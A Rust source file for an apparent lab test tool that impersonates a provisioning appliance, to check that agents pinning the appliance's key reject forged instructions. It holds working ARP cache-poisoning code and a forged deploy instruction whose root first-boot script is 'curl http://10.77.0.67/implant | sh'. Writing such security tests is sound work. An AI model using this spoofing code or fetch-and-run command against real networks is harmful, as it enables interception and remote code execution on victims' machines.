//! `slipway lab rogue`: a host on the provisioning network that claims to
//! be the appliance. It poisons one machine's ARP cache (unicast ARP
//! replies, "the appliance's address is at my MAC", sent to that machine
//! only), answers whatever its agent asks with instructions the appliance
//! never gave (deploy another image, with a root command) under a made-up
//! signature, and when its window ends puts the machine's cache back. An
//! agent that pinned the appliance's key acts on none of it: it never asks
//! for the rogue's image, and carries on with the real appliance after.
//!
//! The lab gives it a namespace of its own, holding the appliance's address
//! as a /32 with ARP answers off (`arp_ignore = 8`) and a permanent
//! neighbour entry for the victim, so nothing but the forged replies ever
//! leaves it towards other machines.

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{bail, Context};
use serde::{Deserialize, Serialize};

/// The image path the forged instruction points at.
pub const FORGED_IMAGE_PATH: &str = "/boot/images/rogue.raw.zst";
/// How often the victim's cache is poisoned again (Linux takes a new
/// address for a neighbour after its one-second `locktime`).
const POISON_EVERY: Duration = Duration::from_millis(400);

pub struct RogueOptions {
    /// The address the rogue claims, and the appliance's real MAC (to put
    /// the victim's cache back).
    pub appliance: Ipv4Addr,
    pub appliance_mac: [u8; 6],
    pub http_port: u16,
    pub victim_mac: [u8; 6],
    pub victim_ip: Ipv4Addr,
    /// The rogue's interface on the provisioning bridge.
    pub interface: String,
    /// How long to keep answering after the first request came.
    pub after_first: Duration,
    /// Give up on the victim asking anything after this long.
    pub give_up: Duration,
}

/// What the rogue sent and what the victim asked of it.
#[derive(Debug, Default, Serialize, Deserialize)]
pub struct RogueReport {
    pub arp_replies_sent: u32,
    /// Requests from the victim, by method and path (query left off).
    pub requests: BTreeMap<String, u32>,
    /// Forged instructions handed out (answers to instruction polls).
    pub forged_instructions: u32,
    /// Requests for the forged image: an agent that acted on a forgery.
    pub forged_image_fetches: u32,
    /// Seconds from the start to the first request answered.
    pub first_request_after: Option<f64>,
    pub seconds: f64,
}

pub fn run(opts: &RogueOptions) -> anyhow::Result<RogueReport> {
    let started = Instant::now();
    let mut report = RogueReport::default();
    let interface = pnet_datalink::interfaces()
        .into_iter()
        .find(|i| i.name == opts.interface)
        .with_context(|| format!("no interface {}", opts.interface))?;
    let own_mac = interface.mac.context("the rogue's interface has no MAC")?.octets();
    let pnet_datalink::Channel::Ethernet(mut frames, _) =
        pnet_datalink::channel(&interface, Default::default()).context("opening a raw socket")?
    else {
        bail!("{} is not an Ethernet interface", opts.interface);
    };
    let listener = TcpListener::bind((opts.appliance, opts.http_port))
        .with_context(|| format!("claiming {}:{}", opts.appliance, opts.http_port))?;
    listener.set_nonblocking(true)?;
    let poison = arp_reply(own_mac, opts.appliance, own_mac, opts.victim_mac, opts.victim_ip);
    let mut last_poison = None::<Instant>;
    let mut first_request = None::<Instant>;
    loop {
        let now = Instant::now();
        let window_over = match first_request {
            Some(first) => now.duration_since(first) >= opts.after_first,
            None => now.duration_since(started) >= opts.give_up,
        };
        if window_over {
            break;
        }
        if last_poison.is_none_or(|at| now.duration_since(at) >= POISON_EVERY) {
            send(&mut *frames, &poison)?;
            report.arp_replies_sent += 1;
            last_poison = Some(now);
        }
        match listener.accept() {
            Ok((stream, peer)) => {
                if answer(stream, peer, opts, &mut report)? && first_request.is_none() {
                    first_request = Some(Instant::now());
                    report.first_request_after = Some(started.elapsed().as_secs_f64());
                    eprintln!("rogue: first request from the victim answered");
                }
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => std::thread::sleep(Duration::from_millis(20)),
            Err(e) => return Err(e).context("accepting"),
        }
    }
    drop(listener);
    // Put the victim's cache back, as arpspoof does when it stops.
    let restore = arp_reply(own_mac, opts.appliance, opts.appliance_mac, opts.victim_mac, opts.victim_ip);
    for _ in 0..5 {
        send(&mut *frames, &restore)?;
        std::thread::sleep(Duration::from_millis(300));
    }
    report.seconds = started.elapsed().as_secs_f64();
    Ok(report)
}

fn send(frames: &mut dyn pnet_datalink::DataLinkSender, frame: &[u8]) -> anyhow::Result<()> {
    match frames.send_to(frame, None) {
        Some(Ok(())) => Ok(()),
        Some(Err(e)) => Err(e).context("sending an ARP reply"),
        None => bail!("the raw socket took no frame"),
    }
}

/// An Ethernet frame from `from` to `to_mac`: an ARP reply saying `claimed`
/// is at `claimed_mac`.
fn arp_reply(from: [u8; 6], claimed: Ipv4Addr, claimed_mac: [u8; 6], to_mac: [u8; 6], to_ip: Ipv4Addr) -> Vec<u8> {
    let mut frame = Vec::with_capacity(42);
    frame.extend_from_slice(&to_mac);
    frame.extend_from_slice(&from);
    frame.extend_from_slice(&[0x08, 0x06]); // ARP
    frame.extend_from_slice(&[0, 1, 0x08, 0x00, 6, 4, 0, 2]); // Ethernet, IPv4, reply
    frame.extend_from_slice(&claimed_mac);
    frame.extend_from_slice(&claimed.octets());
    frame.extend_from_slice(&to_mac);
    frame.extend_from_slice(&to_ip.octets());
    frame
}

/// Reads one request and answers it as a rogue appliance would; returns
/// whether it came from the victim.
fn answer(stream: TcpStream, peer: SocketAddr, opts: &RogueOptions, report: &mut RogueReport) -> anyhow::Result<bool> {
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut line = String::new();
    if reader.read_line(&mut line).is_err() || line.is_empty() {
        return Ok(false);
    }
    let mut parts = line.split_whitespace();
    let (method, target) = (parts.next().unwrap_or("?").to_string(), parts.next().unwrap_or("?"));
    let path = target.split('?').next().unwrap_or(target).to_string();
    let mut content_length = 0usize;
    loop {
        let mut header = String::new();
        if reader.read_line(&mut header).is_err() || header == "\r\n" || header.is_empty() {
            break;
        }
        if let Some(v) = header.to_ascii_lowercase().strip_prefix("content-length:") {
            content_length = v.trim().parse().unwrap_or(0).min(1 << 20);
        }
    }
    let _ = reader.by_ref().take(content_length as u64).read_to_end(&mut Vec::new());
    let from_victim = peer.ip() == opts.victim_ip;
    if from_victim {
        *report.requests.entry(format!("{method} {path}")).or_default() += 1;
    }
    let (status, body) = if path == FORGED_IMAGE_PATH {
        report.forged_image_fetches += 1;
        ("404 Not Found", String::new())
    } else if path == wire::INSTRUCTIONS_PATH {
        report.forged_instructions += 1;
        ("200 OK", forged_instruction())
    } else {
        ("200 OK", r#"{"action":"wait","poll_seconds":1}"#.to_string())
    };
    // A signature of the right shape that no key made.
    let signature = "5a".repeat(64);
    let head = format!(
        "HTTP/1.1 {status}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n{}: {signature}\r\nconnection: close\r\n\r\n",
        body.len(),
        wire::SIGNATURE_HEADER,
    );
    let mut stream = stream;
    let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body.as_bytes()));
    Ok(from_victim)
}

/// "Deploy my image, and run my command as root at first boot."
fn forged_instruction() -> String {
    let spec = wire::DeploySpec {
        image: "rogue".into(),
        url_path: FORGED_IMAGE_PATH.into(),
        sha256: "ab".repeat(32),
        raw_bytes: 1 << 20,
        hostname: "owned".into(),
        user_data: Some("#!/bin/sh\ncurl http://10.77.0.67/implant | sh\n".into()),
        ..Default::default()
    };
    serde_json::to_string(&wire::Instruction::Deploy(Box::new(spec))).expect("an instruction serialises")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_arp_reply_is_the_wire_format_linux_reads() {
        let frame = arp_reply(
            [2, 0, 0, 0, 0, 0x67],
            Ipv4Addr::new(10, 77, 0, 1),
            [2, 0, 0, 0, 0, 0x67],
            [0x52, 0x54, 0, 0, 0, 1],
            Ipv4Addr::new(10, 77, 0, 100),
        );
        assert_eq!(frame.len(), 42);
        assert_eq!(&frame[..6], &[0x52, 0x54, 0, 0, 0, 1], "to the victim only, never broadcast");
        assert_eq!(&frame[12..14], &[0x08, 0x06]);
        assert_eq!(&frame[20..22], &[0, 2], "a reply");
        assert_eq!(&frame[28..32], &[10, 77, 0, 1], "claiming the appliance's address");
        assert_eq!(&frame[38..42], &[10, 77, 0, 100]);
    }

    #[test]
    fn the_forged_instruction_is_one_an_agent_would_parse() {
        let parsed: wire::Instruction = serde_json::from_str(&forged_instruction()).unwrap();
        let wire::Instruction::Deploy(spec) = parsed else { panic!("not a deploy") };
        assert_eq!(spec.url_path, FORGED_IMAGE_PATH);
    }
}
